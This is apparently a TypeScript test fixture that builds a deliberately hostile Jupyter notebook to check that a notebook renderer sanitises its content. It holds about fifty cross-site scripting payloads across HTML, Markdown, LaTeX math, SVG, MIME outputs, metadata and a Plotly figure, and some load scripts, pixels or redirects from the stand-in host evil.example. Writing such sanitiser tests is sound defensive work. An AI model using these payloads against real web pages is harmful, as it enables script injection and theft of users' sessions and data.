/** A notebook that tries to run code in the page, by every road that a notebook has. */
import type { Cell, MimeData, Notebook } from "../../src/notebook/notebook.ts";
import { code, lineFigure, shown, text } from "./samples.ts";

/** Pieces of HTML that would set `hacked` or open a connection if a browser took them as they are. */
const injections: readonly string[] = [
  "<script>globalThis.hacked = 1</script>",
  "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
  "<scr<script>ipt>globalThis.hacked = 1</scr</script>ipt>",
  "<img src=x onerror=globalThis.hacked=1>",
  '<img src="https://evil.example/pixel.png">',
  '<img src="x:x" onerror="globalThis.hacked=1" alt="p">',
  "<svg onload=globalThis.hacked=1></svg>",
  "<svg><script>globalThis.hacked = 1</script></svg>",
  "<svg><animate onbegin=globalThis.hacked=1 attributeName=x dur=1s></svg>",
  "<svg><style><img src=x onerror=globalThis.hacked=1></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=globalThis.hacked=1></style></mglyph></table></mtext></math>",
  "<noscript><p title='</noscript><img src=x onerror=globalThis.hacked=1>'></noscript>",
  "<iframe src=javascript:parent.hacked=1></iframe>",
  "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
  "<object data=javascript:globalThis.hacked=1></object><embed src=https://evil.example/x.swf>",
  '<a class="bait" href="javascript:globalThis.hacked=1">bait</a>',
  '<a class="bait" href=" java\tscript:globalThis.hacked=1">bait</a>',
  '<a class="bait" href="data:text/html,<script>globalThis.hacked=1</script>">bait</a>',
  "<form action=https://evil.example><button>go</button><input autofocus onfocus=globalThis.hacked=1></form>",
  "<details open ontoggle=globalThis.hacked=1><summary>x</summary></details>",
  "<video><source onerror=globalThis.hacked=1></video><audio src=https://evil.example/a.mp3 autoplay>",
  "<body onload=globalThis.hacked=1><base href=https://evil.example/>",
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css"><style>body { display: none }</style>',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/x.png)">cover</div>',
  '<p id="page-main" name="body">clobber</p>',
  "<textarea></textarea><img src=x onerror=globalThis.hacked=1></textarea>",
  "<template><img src=x onerror=globalThis.hacked=1></template>",
  "<!--><img src=x onerror=globalThis.hacked=1>-->",
  "<![CDATA[><img src=x onerror=globalThis.hacked=1>]]>",
  "</style></script></pre></main><img src=x onerror=globalThis.hacked=1>",
];

/** Markdown of its own kind. */
const markdownInjections = [
  "[bait](javascript:globalThis.hacked=1)",
  "[bait](<javascript:globalThis.hacked=1>)",
  '[bait](https://a.example "\' onmouseover=globalThis.hacked=1 \\" onclick=globalThis.hacked=1 ")',
  "![x](https://evil.example/pixel.png)",
  '![\\" onerror=globalThis.hacked=1](data:image/png;base64,AAAA)',
  "![x](attachment:evil.png)",
  '```"><img src=x onerror=globalThis.hacked=1>\ncode\n```',
  "$\\href{javascript:globalThis.hacked=1}{x}$ and $\\htmlData{x=1}{y}$",
  "$\\htmlClass{fold}{x}$ $\\htmlId{page-main}{x}$ $\\htmlStyle{position:fixed;inset:0}{x}$",
  "$\\href{data:text/html,<script>globalThis.hacked=1</script>}{x}$ $\\textcolor{red;position:fixed}{x}$",
  "$\\includegraphics{https://evil.example/x.png}$ and $\\url{javascript:globalThis.hacked=1}$",
  "$\\text{</annotation></semantics></math><img src=x onerror=globalThis.hacked=1>}$",
  '$\\unknown" onmouseover=globalThis.hacked=1 x="$',
  "$\\def\\a{\\a\\a}\\a$",
  "$<img src=x onerror=globalThis.hacked=1>$",
  'note[^"><script>globalThis.hacked=1</script>]\n\n[^"><script>globalThis.hacked=1</script>]: x',
  "note[^1]\n\n[^1]: <img src=x onerror=globalThis.hacked=1> [bait](javascript:globalThis.hacked=1)",
  '<p title="[^1]">note in an attribute</p>\n\n<p title="x[^1]y">\n\n[^1]: " onmouseover=globalThis.hacked=1 x="',
  '<p title="$x$ $\\text{" onmouseover=globalThis.hacked=1 }$">math in an attribute</p>',
];

const svgInjections = [
  '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="globalThis.hacked=1"><script>globalThis.hacked=1</script></svg>',
  '<svg width="9" height="9"><image href="https://evil.example/x.png"/><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="globalThis.hacked=1"/></foreignObject></svg>',
  '"><script>globalThis.hacked=1</script><svg width="9" height="9">',
  "<svg width='9\" onerror=globalThis.hacked=1 x=\"' height='9'></svg>",
];

const evil = "</script></title></style>\"'><img src=x onerror=globalThis.hacked=1>";

/** The file name that goes with the notebook. */
export const hostileFileName: string = `${evil}.ipynb`;

/** All of it in one notebook: text, HTML, SVG, math, figures, errors, streams, ids, tags, metadata. */
export function hostileNotebook(): Notebook {
  const cells: Cell[] = [
    ...[...injections, ...markdownInjections].map((source, index) => text(`t${index}`, source)),
    text("heading", `# ${evil}\n\n## ${evil}\n\n## <script>globalThis.hacked=1</script>`),
    { cell_type: "raw", id: `raw${evil}`, metadata: { format: "text/html" }, source: evil },
    {
      ...text("attached", "![x](attachment:evil.png) ![y](attachment:evil.svg)"),
      attachments: {
        "evil.png": { [`image/png${evil}`]: evil, "image/png": evil },
        "evil.svg": { "image/svg+xml": svgInjections[0] },
      },
    } as Cell,
    ...[...injections, evil].map((html, index) =>
      code(`h${index}`, evil, [shown({ "text/html": html })]),
    ),
    ...svgInjections.map((svg, index) => code(`s${index}`, "", [shown({ "image/svg+xml": svg })])),
    code(`id${evil}`, evil, [
      shown({ "text/plain": evil }),
      shown({ "text/markdown": evil }),
      shown({ "text/latex": `$$\\text{${evil}}$$` }),
      shown({ "application/json": { evil } }),
      shown({ "application/javascript": "globalThis.hacked = 1" }),
      shown({ [`application/${evil}`]: evil }),
      shown({ "image/png": `AAAA" onerror="globalThis.hacked=1` }),
      shown({ "image/svg+xml": 7, "text/plain": 7 } as MimeData),
      {
        output_type: "stream",
        name: "stdout",
        text: `${evil}\u001b[31;1m${evil}\u001b]8;;javascript:1\u0007x`,
      },
      { output_type: "error", ename: evil, evalue: evil, traceback: [] },
      { output_type: "error", ename: "E", evalue: "", traceback: [evil] },
    ]),
    code("figure", "", [shown(hostileFigure())]),
  ];
  return {
    cells,
    metadata: {
      title: evil,
      kernelspec: { language: evil, display_name: evil, name: evil },
      language_info: { name: "typescript" },
      chainrule: { lesson: evil, hash: evil },
    },
  };
}

function hostileFigure(): MimeData {
  const link = '<a href="javascript:globalThis.hacked=1">x</a>';
  return {
    ...lineFigure(),
    "application/vnd.plotly.v1+json": {
      data: [
        {
          y: [1, 2],
          name: `${evil}${link}`,
          hovertemplate: evil,
          text: [evil, link],
          type: "scatter",
        },
      ],
      layout: {
        title: { text: `${link}${evil}` },
        meta: { description: evil },
        images: [
          {
            source: "data:image/svg+xml,<svg onload=globalThis.hacked=1>",
            x: 0,
            y: 1,
            sizex: 1,
            sizey: 1,
          },
        ],
        annotations: [{ text: `${link}${evil}`, x: 0, y: 1 }],
      },
      config: { plotlyServerURL: "https://evil.example", linkText: evil, showLink: true },
    },
  };
}
